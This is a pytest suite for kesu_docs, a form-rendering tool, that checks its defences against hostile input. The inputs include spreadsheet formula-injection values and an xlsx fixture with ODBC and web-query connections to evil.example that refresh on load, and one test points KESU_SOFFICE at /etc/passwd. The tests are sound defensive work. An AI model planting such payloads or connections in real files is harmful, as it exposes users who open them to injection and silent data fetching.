"""Hostile and careless input, the thirty-second round (issue 10, bad input): what attack31 left —
a value starting like a formula after blanks, a whole-grid range kept as typed, a workbook's data
connections, a language said again by each worker, names equal but for their case — and the
round's own attacks. Real files and the real command; each test fails without its mend."""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from pathlib import Path

import pytest
from helpers import kesu, python_process
from hostile import complaint, write_json

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "samples" / "complaint-valid.xlsx"


# ------------------------------------------------------------ a value starting like a formula
@pytest.mark.parametrize(
    ("value", "line"),
    [
        ("=SUM(A1:A9)", "'=SUM(A1:A9)"),
        ("= 5 pcs", "'= 5 pcs"),
        ("@home", "'@home"),
        ("+86 138 0013 8000", "'+86 138 0013 8000"),  # Excel: + and spaces, a formula (#NULL!)
        ("-5 pcs", "'-5 pcs"),
        (" =1+1", "' =1+1"),  # a reader trimming blanks (TSV's folding, LibreOffice) sees =1+1
        ("\u3000＝1+1", "'\u3000＝1+1"),
        ("\t@SUM(1)", "'\t@SUM(1)"),
        ("-5", "-5"),
        ("+3", "+3"),
        (" -12.50", " -12.50"),
        ("5 pcs", "5 pcs"),
        ("A=B", "A=B"),
        ("华东 +1", "华东 +1"),
    ],
)
def test_a_plain_line_quotes_what_a_spreadsheet_runs_and_nothing_else(value, line):
    """OWASP's CSV injection rule, both ways: the first character that is no blank decides."""
    from kesu_docs.xlsxtext import plain_text

    assert plain_text(value) == line


def test_a_source_named_with_a_blank_before_its_formula_is_no_formula_in_tsv(tmp_path):
    """A form filed as `` =1+1.json``: ``register list --format tsv`` folded its blanks after
    the formula check and wrote ``=1+1.json`` — a formula in the spreadsheet opening it."""
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    write_json(inbox / " =1+1.json", complaint())
    db = tmp_path / "k.db"
    assert kesu("render", inbox, "-o", tmp_path / "out", "--db", db).exit_code == 0
    for form, separator in (("tsv", "\t"), ("csv", ",")):
        listed = kesu("register", "list", "--all", "--format", form, "--db", db, "--lang", "en")
        rows = list(csv.reader(io.StringIO(listed.output), delimiter=separator))
        source = rows[1][rows[0].index("Source")]
        assert source.startswith("'") and source.lstrip("' ") == "=1+1.json", source


# ------------------------------------------------------- a language kesu does not know, once a command
def test_a_language_kesu_does_not_know_is_said_once_by_a_command_whose_workers_are_spawned(tmp_path):
    """``KESU_LANG=fr kesu render inbox --jobs 2`` with spawned workers (as on Windows): each
    worker that met a message said the unknown language again (twice or more on stderr)."""
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    for i in range(6):  # forms whose messages the workers word (a broken one, a good one)
        write_json(inbox / f"c{i}.json", complaint(order_no=f"SO-{i}"))
        (inbox / f"broken{i}.xlsx").write_bytes(b"not a workbook")
    done = python_process(
        "-m", "kesu_docs", "render", "inbox", "-o", "out", "--db", "k.db", "--jobs", "2",
        cwd=tmp_path, KESU_LANG="fr", KESU_START_METHOD="spawn",
    )  # fmt: skip
    assert done.returncode in (1, 2) and "Traceback" not in done.stderr, done.stderr[-2000:]
    assert done.stderr.count("is no language kesu knows") == 1, done.stderr[-2000:]
    assert len(list((tmp_path / "out").glob("*.docx"))) == 6


# ---------------------------------------------------------------------- a workbook's data connections
_CONNECTIONS = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1"
 name="prices" type="1" refreshedVersion="6" refreshOnLoad="1" saveData="1"><dbPr
 connection="DSN=plant;UID=clerk;SERVER=evil.example" command="SELECT * FROM prices"/></connection>
<connection id="2" name="web" type="4" refreshOnLoad="1"><webPr url="http://evil.example/q"
 sourceData="1"/></connection></connections>"""


def _connected(path: Path) -> Path:
    """The sample form with an ODBC and a web query Excel refreshes as it opens the file."""
    from holdout_kit import zip_bytes

    with zipfile.ZipFile(SAMPLE) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/connections.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/></Types>',
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdC1" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/connections" Target="connections.xml"/></Relationships>',
    )
    path.write_bytes(zip_bytes(parts | {"xl/connections.xml": _CONNECTIONS}))
    return path


@pytest.mark.parametrize(
    ("lang", "said"), [("zh", "数据连接（xl/connections.xml"), ("en", "data connections")]
)
def test_a_workbooks_data_connections_are_not_in_the_working_copy_and_said(tmp_path, lang, said):
    """A form holding an ODBC connection and a web query refreshed on opening: the numbered
    working copy QA opens carried none (openpyxl writes none) without a word."""
    _connected(tmp_path / "form.xlsx")
    done = kesu("--lang", lang, "render", "form.xlsx", "-o", "out", "--db", "k.db", cwd=tmp_path)
    assert done.exit_code == 0, done.output
    assert said in " ".join(done.output.split()).replace("（ ", "（"), done.output
    (copy,) = (tmp_path / "out").glob("*.xlsx")
    with zipfile.ZipFile(copy) as made:
        assert not any("connection" in n.lower() for n in made.namelist())
        assert b"evil.example" not in b"".join(made.read(n) for n in made.namelist())


# ----------------------------------------------------------------- a whole-grid range, kept as typed
@pytest.mark.parametrize(
    ("lang", "said"), [("zh", "超出工作表已用的储存格"), ("en", "runs past the cells the sheet uses")]
)
def test_a_range_typed_as_the_whole_grid_is_learned_as_the_cells_used_and_said(tmp_path, lang, said):
    """``kesu learn … --set customer=A1:XFD1048576``: the profile kept the range as typed (each
    reading of it named the part of the sheet read, 200,000 cells). Now the cells the sheet
    uses, said; a range within them is kept as typed."""
    import tomllib

    shutil.copy(ROOT / "samples" / "complaint-customer-layout.xlsx", tmp_path / "cl.xlsx")
    args = ("--lang", lang, "learn", "cl.xlsx", "--kind", "complaint", "--force", "--set")
    done = kesu(*args, "customer=A1:XFD1048576", cwd=tmp_path)
    assert done.exit_code == 0, done.output
    assert said in " ".join(done.output.split()) and "A1:F17" in done.output, done.output
    fields = tomllib.loads((tmp_path / "profiles" / "cl.toml").read_text("utf-8"))["fields"]
    assert fields["customer"]["cell"] == "A1:F17"
    within = kesu(*args, "customer=B3:C3", cwd=tmp_path)
    assert within.exit_code == 0 and said not in " ".join(within.output.split()), within.output
    fields = tomllib.loads((tmp_path / "profiles" / "cl.toml").read_text("utf-8"))["fields"]
    assert fields["customer"]["cell"] == "B3:C3"


# ------------------------------------------------------------------- names equal but for their case
@pytest.mark.parametrize(
    ("lang", "said"), [("zh", "很可能是从较早的备份恢复的"), ("en", "put back from a backup")]
)
def test_a_document_named_in_capitals_in_the_folder_is_one_the_register_lost(tmp_path, lang, said):
    """On a share, a Windows PC or a FAT stick (case-insensitive) ``COMPLAINT-202609001.DOCX``
    is the file ``complaint-202609001.docx``: the check of a register put back from a backup
    looked the names up as written, and numbered 202609001 again (its document then refused at
    the file, or — after a worker's death — taken for this run's own). Names are compared folded."""
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    write_json(inbox / "c.json", complaint())
    out = tmp_path / "out"
    out.mkdir()
    (out / "COMPLAINT-202609001.DOCX").write_bytes(b"the document a restored register lost")
    done = python_process(
        "-m", "kesu_docs", "--lang", lang, "render", "inbox", "-o", "out", "--db", "k.db",
        cwd=tmp_path,
    )  # fmt: skip
    flat = " ".join((done.stdout + done.stderr).split())
    assert done.returncode != 0 and said in flat and "Traceback" not in flat, flat
    assert sorted(p.name for p in out.iterdir()) == ["COMPLAINT-202609001.DOCX"]
    assert (out / "COMPLAINT-202609001.DOCX").read_bytes() == b"the document a restored register lost"


# ------------------------------------------------------------------------- a month no form carries
@pytest.mark.parametrize("month", ["0000-01", "0001-01", "9999-12"])
@pytest.mark.parametrize(
    ("lang", "said"), [("zh", "月份的年份须在 1900–2199 之间"), ("en", "year must be within 1900–2199")]
)
def test_a_monthly_report_of_a_month_no_form_carries_is_a_usage_error_not_a_traceback(
    tmp_path, month, lang, said
):
    """``kesu report monthly 0000-01`` / ``9999-12``: "ValueError: year 0 is out of range" (the
    trailing twelve months, the month after) — a traceback. Now the web's rule for a month
    (1900–2199, a form date's years), exit 2, nothing written."""
    db = tmp_path / "k.db"
    write_json(tmp_path / "c.json", complaint())
    assert kesu("render", tmp_path / "c.json", "-o", tmp_path / "out", "--db", db).exit_code == 0
    done = python_process(
        "-m", "kesu_docs", "--lang", lang, "report", "monthly", month, "--db", "k.db", "-o", "r.xlsx", cwd=tmp_path
    )  # fmt: skip
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr[-1500:]
    assert said in " ".join(done.stderr.split()) and not (tmp_path / "r.xlsx").exists()


# ---------------------------------------------------------------------------- a register in memory
@pytest.mark.parametrize(
    "address", ["sqlite://", "sqlite:///:memory:", "sqlite:///file:k?mode=memory&uri=true"]
)
def test_a_register_in_memory_is_refused_its_numbers_would_be_issued_again(tmp_path, address):
    """``--db sqlite://`` (or ``sqlite:///:memory:``, a ``mode=memory`` URI): the register lived
    in memory for the command — 202609001 issued, then issued again by the next run to another
    form (into another folder, nothing saw it). Now refused before anything is read, both
    languages; a file named ``:memory:`` is a file as any other."""
    write_json(tmp_path / "c.json", complaint())
    for lang, said in (("zh", "只在内存中"), ("en", "would be in memory only")):
        done = kesu("--lang", lang, "render", "c.json", "-o", f"out-{lang}", "--db", address, cwd=tmp_path)
        assert done.exit_code == 2 and said in " ".join(done.output.split()), done.output
        assert not (tmp_path / f"out-{lang}").exists() or not any((tmp_path / f"out-{lang}").iterdir())
    from kesu_docs.register import Register, RegisterError

    with pytest.raises(RegisterError):
        Register.open(address, create=True)
    assert kesu("render", "c.json", "-o", "out", "--db", ":memory:", cwd=tmp_path).exit_code == 0
    assert (tmp_path / ":memory:").is_file()


# ------------------------------------------------------------------ KESU_SOFFICE naming no program
def test_kesu_soffice_naming_a_file_that_is_no_program_is_said_not_a_traceback(tmp_path):
    """``KESU_SOFFICE=/etc/passwd kesu render … --pdf`` (a file, not runnable): "PermissionError:
    [Errno 13] Permission denied" in a traceback, the form numbered. Now LibreOffice is said
    missing (KESU_SOFFICE named in the cure) before anything is numbered."""
    notes = tmp_path / "soffice.txt"
    notes.write_text("not a program")
    write_json(tmp_path / "c.json", complaint())
    for lang, said in (("zh", "KESU_SOFFICE"), ("en", "name soffice in KESU_SOFFICE")):
        done = python_process(
            "-m", "kesu_docs", "--lang", lang, "render", "c.json", "-o", "out", "--db", "k.db", "--pdf",
            cwd=tmp_path, KESU_SOFFICE=str(notes),
        )  # fmt: skip
        assert done.returncode != 0 and "Traceback" not in done.stderr, done.stderr[-1500:]
        assert said in " ".join((done.stdout + done.stderr).split())
    listed = kesu("register", "list", "--all", "--format", "csv", "--db", tmp_path / "k.db")
    assert listed.output.count("\n") <= 1, listed.output  # (nothing numbered: its heading at most)


# -------------------------------------------------------------------- the Python API, a record of no kind
@pytest.mark.parametrize("record", [{}, {"customer": "华东精密"}])
def test_a_record_naming_no_kind_is_an_unknown_kind_through_the_api(record):
    """``kesu_docs.validate({"customer": …})`` (no ``kind``, none given): a bare
    ``KeyError: 'kind'`` from inside kesu; now ``UnknownKind``, as a kind kesu does not know."""
    from kesu_docs import api
    from kesu_docs.forms import UnknownKind

    with pytest.raises(UnknownKind):
        api.validate(record)
    with pytest.raises(UnknownKind):  # (a fresh process's first look-up: an AttributeError too)
        api.form(None)  # type: ignore[arg-type]
    assert [p.code for p in api.validate(record, "complaint")][:1] == ["required"]
